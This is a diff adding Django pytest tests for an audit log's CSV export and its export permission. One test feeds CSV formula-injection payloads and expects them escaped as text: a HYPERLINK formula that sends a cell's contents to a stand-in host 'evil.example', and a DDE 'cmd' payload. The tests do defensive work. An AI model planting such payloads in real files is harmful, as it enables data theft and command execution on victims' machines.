@@ -9,6 +9,7 @@ import json
 
 import pytest
 import time_machine
+from django.contrib.auth.models import Group, Permission
 from django.db import DatabaseError, connection, transaction
 from django.db.models.deletion import ProtectedError
 from django.urls import reverse
@@ -239,6 +240,83 @@ def test_the_csv_export_has_a_header_and_the_systems_own_events(auditor, trail):
     assert [(row["actor"], row["target"], row["at"]) for row in rows] == [
         ("", "b:x", "2026-11-03T12:00:00+00:00")
     ]
+
+
+def test_csv_cells_a_spreadsheet_would_run_come_out_as_text(auditor, staff):
+    formulas = {
+        '=HYPERLINK("http://evil.example/"&A1)': '\'=HYPERLINK("http://evil.example/"&A1)',
+        "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
+        "-2+3": "'-2+3",
+        "@SUM(1+1)": "'@SUM(1+1)",
+        "\t=1+1": "'\t=1+1",
+        "\r=1+1": "'\r=1+1",
+        "plain, 1=1": "plain, 1=1",  # only the first character counts
+    }
+    for number, text in enumerate(formulas):
+        audit_record(
+            actor=staff,
+            action="source.download",
+            target=text,
+            reason=text,
+            origin=Origin(user_agent=text),
+            details={"n": number},
+        )
+
+    response = auditor.get("/api/v1/audit/", {"format": "csv", "action": "source.download"})
+    as_jsonl = auditor.get("/api/v1/audit/", {"format": "jsonl", "action": "source.download"})
+
+    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+    assert [row["target"] for row in rows] == list(formulas.values())
+    assert [row["reason"] for row in rows] == list(formulas.values())
+    assert [row["user_agent"] for row in rows] == list(formulas.values())
+    assert _targets(_jsonl(as_jsonl)) == list(formulas)  # JSON lines stay exact
+
+
+def _can_export(user) -> None:
+    user.user_permissions.add(
+        Permission.objects.get(content_type__app_label="audit", codename="export_auditevent")
+    )
+
+
+def _api(user) -> APIClient:
+    client = APIClient()
+    client.credentials(HTTP_AUTHORIZATION=f"Token {ApiToken.objects.create(user=user).key}")
+    return client
+
+
+def test_exporting_needs_its_own_permission_not_just_a_staff_account(client, trail):
+    clerk = factories.UserFactory(username="clerk", is_staff=True)
+    clerk.groups.add(Group.objects.get(name="contest staff"))  # every staff action but this
+    url = reverse("admin:audit_auditevent_export")
+    client.force_login(clerk)
+
+    api = _api(clerk).get("/api/v1/audit/", {"format": "csv"})
+    bad_filter = _api(clerk).get("/api/v1/audit/", {"format": "csv", "since": "soon"})
+    form = client.get(url)
+    download = client.get(url, {"format": "csv"})
+
+    assert api.status_code == bad_filter.status_code == 403
+    assert api.json()["code"] == "permission_denied"
+    assert "audit.export_auditevent" in api.json()["detail"]
+    assert form.status_code == download.status_code == 403
+    assert not AuditEvent.objects.filter(action="audit.export").exists()
+
+    _can_export(clerk)
+    clerk = type(clerk).objects.get(pk=clerk.pk)  # a fresh permission cache
+    client.force_login(clerk)
+    granted = _api(clerk).get("/api/v1/audit/", {"format": "csv"})
+    from_admin = client.get(url, {"format": "csv"})
+
+    assert granted.status_code == from_admin.status_code == 200
+    assert b"s:1" in b"".join(granted.streaming_content)
+    assert b"s:1" in b"".join(from_admin.streaming_content)
+    assert AuditEvent.objects.filter(action="audit.export", actor=clerk).count() == 2
+
+
+def test_only_superusers_may_export_by_default(staff):
+    holders = Permission.objects.get(content_type__app_label="audit", codename="export_auditevent")
+    assert staff.is_superuser and staff.has_perm("audit.export_auditevent")
+    assert not holders.group_set.exists() and not holders.user_set.exists()
 
 
 @pytest.mark.parametrize(
